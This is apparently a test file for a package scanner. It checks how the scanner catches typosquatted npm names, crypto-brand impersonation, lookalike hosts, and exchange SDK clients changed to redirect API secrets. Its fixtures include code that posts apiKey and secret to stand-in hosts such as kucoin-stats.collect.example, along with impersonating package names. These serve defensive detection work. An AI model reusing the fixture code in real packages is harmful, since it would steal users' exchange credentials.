/**
 * Examples written after the rules, by nobody's incident: names, hosts and changed clients as an impostor would choose
 * them next. A miss found here is fixed in a rule, never by an entry in a list.
 */
import t from 'tap'
import { analyse } from '../../lib/judge/analyse.ts'
import { loadLists } from '../../lib/store/load-lists.ts'
import type { Action, Fact } from '../../lib/types.ts'
import { brandHost } from '../../rules/brand-host.ts'
import { brandImpersonation } from '../../rules/brand-impersonation.ts'
import { brandScore } from '../../rules/brands/brand-score.ts'
import { knownSdkOverride } from '../../rules/known-sdk-override.ts'
import { lookalikeHost } from '../../rules/lookalike-host.ts'
import { nameLookup } from '../../rules/names/name-lookup.ts'
import type { NameKind } from '../../rules/names/name-lookup.ts'
import { suggestNames } from '../../rules/names/suggest-names.ts'
import { inspectExample } from '../helpers/inspect-example.ts'
import { contacts, contextOf, flowOf, inspectionOf } from '../helpers/inspection.ts'

const lists = loadLists()

t.test('names nobody has seen yet are told apart from the one that was meant', t => {
  const cases: readonly (readonly [string, string, NameKind])[] = [
    ['nodemialer', 'nodemailer', 'edit1'],
    ['react-router-domm', 'react-router-dom', 'edit1'],
    ['mongosse', 'mongoose', 'edit1'],
    ['expres-session', 'express-session', 'edit1'],
    ['eslint-confg-prettier', 'eslint-config-prettier', 'edit1'],
    ['ehters', 'ethers', 'edit1'],
    ['@typscript-eslint/parser', '@typescript-eslint/parser', 'scope-imitated'],
    ['@nest-js/core', '@nestjs/core', 'scope-imitated'],
    ['@openzepellin/contracts', '@openzeppelin/contracts', 'scope-imitated'],
    ['@type/node', '@types/node', 'scope-imitated'],
    ['@babe1/core', '@babel/core', 'homoglyph'],
    ['@prlsma/client', '@prisma/client', 'homoglyph'],
    ['t\u0430ilwindcss', 'tailwindcss', 'homoglyph'],
    ['\u200blodash', 'lodash', 'homoglyph'],
    ['j5onwebtoken', 'jsonwebtoken', 'homoglyph'],
    ['vveb3', 'web3', 'homoglyph'],
    ['body_parser', 'body-parser', 'separators'],
    ['nodefetch', 'node-fetch', 'separators'],
    ['jsonwebtokens', 'jsonwebtoken', 'plural'],
  ]
  for (const [name, target, kind] of cases) {
    t.match(nameLookup(name, lists)[0], { target, kind }, name)
    t.equal(suggestNames(name, lists)[0]?.target, target, `${name}: did you mean ${target}?`)
  }
  const noted: readonly (readonly [string, string, NameKind])[] = [
    ['solana-web3.js', '@solana/web3.js', 'scope-dropped'],
    ['angular-core', '@angular/core', 'scope-dropped'],
    ['react-dom-router', 'react-router-dom', 'token-order'],
    ['node-fetch2', 'node-fetch', 'version-suffix'],
    ['npm-axios', 'axios', 'affix'],
  ]
  for (const [name, target, kind] of noted) {
    t.match(nameLookup(name, lists)[0], { target, kind }, name)
    t.same(suggestNames(name, lists), [], `${name}: honest packages are called so, nobody is asked`)
  }
  t.end()
})

t.test('names that borrow a brand claim it, whole words or written as one or apart', t => {
  const claiming: readonly (readonly [string, string])[] = [
    ['kucoin-margin-bot', 'kucoin'],
    ['metamask-connect-helper', 'metamask'],
    ['bitget-copytrade-sdk', 'bitget'],
    ['hyperliquid-vault-signer', 'hyperliquid'],
    ['b1nance-futures-api', 'binance'],
    ['okex-v5-client', 'okx'],
    ['uniswap-v4-sniper', 'uniswap'],
    ['p\u0430ncakeswap-sdk', 'pancakeswap'],
    ['coinbasse-pay', 'coinbase'],
    ['deriblt-api', 'deribit'],
    ['bybitapi', 'bybit'],
    ['mexcfutures', 'mexc'],
    ['polymarketbot', 'polymarket'],
    ['meta-mask-sdk', 'metamask'],
    ['gate-io-futures', 'gate'],
    ['@kucoin-labs/sdk', 'kucoin'],
    ['node_bitfinex_ws', 'bitfinex'],
  ]
  for (const [name, brand] of claiming) {
    const score = brandScore(name, lists)
    t.ok(score.score >= 4, `${name} scores ${score.score}`)
    t.equal(score.brands[0]?.id, brand, name)
    const alone = brandImpersonation.check(inspectionOf({ manifest: { name } }), contextOf({ name }))
    t.same(
      alone.map(({ action }) => action),
      ['note'],
      `${name}: the name alone is a note`,
    )
  }
  const silent = [
    'domexception-api',
    'bitbybit',
    'openapi',
    'gatekeeper-io',
    'finance-sdk',
    'ledgerize',
    'metal-mask',
  ]
  for (const name of silent) t.ok(brandScore(name, lists).score < 3, name)
  t.end()
})

type HostCase = readonly [string, Action | undefined, Action | undefined]

/** The strongest action of the host rules: for the contact alone, and with the caller's secret sent there. */
t.test('hosts made to be mistaken, and hosts that only look so', t => {
  const cases: readonly HostCase[] = [
    ['https://api.bybit-openapi.example/v5', 'ask', 'block'],
    ['https://okx-gw.inert-fixture.workers.dev', 'ask', 'block'],
    ['https://kucoin-api.inert-fixture.vercel.app', 'ask', 'block'],
    ['https://metamask.io.wallet-sync.example', 'ask', 'block'],
    ['https://login.coinbase.com.session.example', 'ask', 'block'],
    ['https:\\\\api.binance.com.collect.example', 'ask', 'block'],
    ['https://mexcfutures.example', 'ask', 'block'],
    ['wss://api-hyperliquid.inert-fixture.pages.dev', 'ask', 'block'],
    ['https://kr\u0430ken.com', 'ask', 'block'],
    ['https://bin\u00e1nce.com', 'ask', 'block'],
    ['https://api.b1nance.com', 'ask', 'block'],
    ['https://api.telegrarn.org', 'ask', 'block'],
    ['https://registry.nprnjs.org', 'ask', 'block'],
    ['https://api.githud.com', 'note', 'ask'],
    ['https://npmjs.example', 'note', 'ask'],
    ['https://registry-npmjs.org', 'note', 'ask'],
    ['https://binance.com@collect.example', undefined, undefined],
    ['https://api.binance.com.', undefined, undefined],
    ['https://\u24d1inance.com', undefined, undefined],
    ['https://api.huobi.\u0001/v1', undefined, undefined],
    ['https://\u0430pi.openai.com', undefined, undefined],
    ['https://m\u00fcnchen.example', undefined, undefined],
    ['https://bybit-exchange.github.io/docs', undefined, undefined],
    ['https://finance.example', undefined, undefined],
  ]
  const order: readonly Action[] = ['note', 'ask', 'block']
  for (const [to, alone, withSecret] of cases) {
    const brand = ['bybit', 'okx', 'kucoin', 'metamask', 'coinbase', 'binance', 'mexc', 'hyperliquid'].find(
      word => to.includes(word),
    )
    const name = brand === undefined ? 'quiet-helper' : `${brand}-quiet-helper`
    const strongest = (inspection: ReturnType<typeof inspectionOf>): Action | undefined =>
      [brandHost, lookalikeHost]
        .flatMap(rule => rule.check(inspection, contextOf({ name })).map(({ action }) => action))
        .toSorted((a, b) => order.indexOf(b) - order.indexOf(a))[0]
    t.equal(strongest(inspectionOf({ manifest: { name }, facts: [contacts(to)] })), alone, to)
    const flow = flowOf({ source: 'caller-secret', name: 'apiSecret', to: [to], byCall: true })
    t.equal(strongest(inspectionOf({ manifest: { name }, flows: [flow] })), withSecret, `${to} with a secret`)
  }
  t.end()
})

type ClientCase = {
  readonly title: string
  readonly code: string
  readonly action: Action | undefined
  readonly line?: string
  readonly name?: string
  readonly homepage?: string
}

const clients: readonly ClientCase[] = [
  {
    title: 'a subclass of a third-party SDK whose headers carry the secret to a gateway',
    code: "import { MainClient } from 'binance'\nexport class Fast extends MainClient {\n  baseUrl = 'https://gateway.collect.example'\n  headers() {\n    return { key: this.api_key, proof: this.apiSecret }\n  }\n}\n",
    action: 'block',
    line: 'proof: this.apiSecret',
  },
  {
    title: 'compiled code, the default export, an object of addresses',
    code: 'const x_1 = __importDefault(require("ccxt"));\nclass P extends x_1.default.pro.okx {\n  describe() {\n    return this.deepExtend(super.describe(), { urls: { api: { rest: "https://okx.inert-fixture.workers.dev" } } });\n  }\n}\nexports.P = P;\n',
    action: 'block',
    line: 'https://okx.inert-fixture.workers.dev',
  },
  {
    title: 'an instance whose addresses are replaced after it was made',
    code: "const { bybit } = require('ccxt')\nmodule.exports = keys => {\n  const exchange = new bybit(keys)\n  exchange.urls.api.private = 'https://relay.collect.example'\n  return exchange\n}\n",
    action: 'ask',
    line: 'https://relay.collect.example',
  },
  {
    title: 'a constructor that is given another address',
    code: "import { RestClient } from 'okx-api'\nexport const client = (apiKey, apiSecret) => new RestClient({ apiKey, apiSecret, baseUrl: 'https://okx-proxy.collect.example' })\n",
    action: 'block',
    line: 'okx-proxy.collect.example',
  },
  {
    title:
      'the secret in a header and no address: the SDK sends it to its own service, or somewhere set at run time',
    code: "const ccxt = require('ccxt')\nclass K extends ccxt.kraken {\n  prepareRequestHeaders(headers) {\n    return { ...headers, 'X-Trace': `${this.apiKey}.${this.secret}` }\n  }\n}\nmodule.exports = K\n",
    action: 'ask',
    line: 'this.secret',
  },
  {
    title: 'a prototype given a method that posts the secret',
    code: "const ccxt = require('ccxt')\nccxt.Exchange.prototype.fetch2 = function (path) {\n  fetch('https://kucoin-stats.collect.example', { method: 'POST', body: [this.apiKey, this.secret] })\n}\n",
    action: 'block',
    line: 'this.secret',
  },
  {
    title: 'signing as an exchange wants it: the secret makes a signature',
    code: "const ccxt = require('ccxt')\nclass K extends ccxt.kraken {\n  sign(path, api, method, params) {\n    const signature = this.hmac(this.encode(path), this.encode(this.secret), 'sha512')\n    return { url: this.urls.api[api] + path, headers: { key: this.apiKey, signature } }\n  }\n}\nmodule.exports = K\n",
    action: 'note',
  },
  {
    title: 'the test host of the exchange itself',
    code: "const ccxt = require('ccxt')\nmodule.exports = class extends ccxt.binance {\n  describe() {\n    return this.deepExtend(super.describe(), { urls: { api: { rest: 'https://testnet.binance.vision' } } })\n  }\n}\n",
    action: 'note',
  },
  {
    title: 'a mock server on this computer',
    code: "import { RestClient } from 'okx-api'\nexport const client = keys => new RestClient({ ...keys, baseUrl: 'http://127.0.0.1:8080' })\n",
    action: 'note',
  },
  {
    title: 'a class of a package that handles no money',
    code: "import { Client } from 'some-http-kit'\nexport class Mine extends Client {\n  baseUrl = 'https://api.acme.example'\n  headers() {\n    return { auth: this.secret }\n  }\n}\n",
    action: undefined,
  },
  {
    title: 'own classes of the same shape',
    code: "import { Base } from './base.js'\nexport class Mine extends Base {\n  sign() {\n    return { secret: this.secret, url: 'https://mexc.collect.example' }\n  }\n}\n",
    action: undefined,
  },
  {
    title: 'the SDK’s own package',
    name: 'okx-api',
    code: "import { RestClient } from 'okx-api'\nexport const demo = keys => new RestClient({ ...keys, baseUrl: 'https://relay.collect.example' })\n",
    action: undefined,
  },
]

t.test('changed clients of exchanges: where the keys go decides', t => {
  for (const { title, code, action, line, name = 'grid-helper', homepage } of clients) {
    const manifest = {
      name,
      version: '1.0.0',
      type: 'commonjs',
      main: 'index.js',
      ...(homepage ? { homepage } : {}),
    }
    const esm = /^import |^export /m.test(code)
    const inspection = inspectExample({
      files: {
        'package.json': JSON.stringify({ ...manifest, type: esm ? 'module' : 'commonjs' }),
        'index.js': code,
      },
    })
    const [finding] = knownSdkOverride.check(inspection, contextOf({ name }))
    t.equal(finding?.action, action, title)
    if (line === undefined || finding === undefined) continue
    const lines = code.split('\n')
    const places = [finding.location, ...(finding.flow ?? [])]
    t.ok(
      places.some(place => lines[place.line - 1]?.includes(line)),
      `${title}: points at the line`,
    )
    t.match(finding.message, /Verify there/, title)
  }
  t.end()
})

t.test('a name that claims the exchange, and a client pointed elsewhere, are a block together', t => {
  const inspection = inspectExample({
    files: {
      'package.json': '{"name":"okx-grid-bot","version":"0.1.0","main":"index.js"}',
      'index.js':
        "const { okx } = require('ccxt')\nclass Grid extends okx {\n  describe() {\n    return this.deepExtend(super.describe(), { urls: { api: { rest: 'https://relay.collect.example' } } })\n  }\n  sign(path) {\n    return { url: path, headers: { a: this.secret } }\n  }\n}\nmodule.exports = Grid\n",
    },
  })
  const { findings } = analyse(inspection, contextOf({ name: 'okx-grid-bot' }), [
    brandImpersonation,
    knownSdkOverride,
  ])
  t.same(findings.map(({ rule, action }) => `${rule} ${action}`).toSorted(), [
    'brand-impersonation block',
    'known-sdk-override block',
  ])
  for (const part of ['OKX', 'relay.collect.example', 'secret itself', 'okx.com'])
    t.ok(
      findings.some(({ message }) => message.includes(part)),
      part,
    )
  t.end()
})

t.test('hostile code costs nothing and does not throw', t => {
  const deep = 'x'.repeat(2000).replaceAll('x', "new a.b({ urls: 'https://x.example', secret: ")
  const texts = [
    `const a = require('ccxt'); ${deep}1${' })'.repeat(2000)}`,
    `const a = require('ccxt'); ${'a.'.repeat(5000)}b = { secret: 1 }; new a()`,
    "class A extends A { sign() {} }; const a = require('ccxt'); new a()",
    "const __proto__ = require('ccxt'); class B extends __proto__.constructor { sign() { return { secret } } }",
    `import a from 'ccxt'; ${Array.from({ length: 3000 }, (_, i) => `class C${i} extends a.c${i} { sign() {} }`).join('\n')}`,
  ]
  const start = process.cpuUsage()
  for (const text of texts) {
    const inspection = inspectExample({
      files: { 'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}', 'index.js': text },
    })
    const overrides = inspection.facts.filter((fact: Fact) => fact.kind === 'overrides')
    t.ok(overrides.length <= 100)
    t.doesNotThrow(() => knownSdkOverride.check(inspection, contextOf()))
  }
  t.ok(process.cpuUsage(start).user < 20_000_000, 'µs of the processor')
  t.end()
})
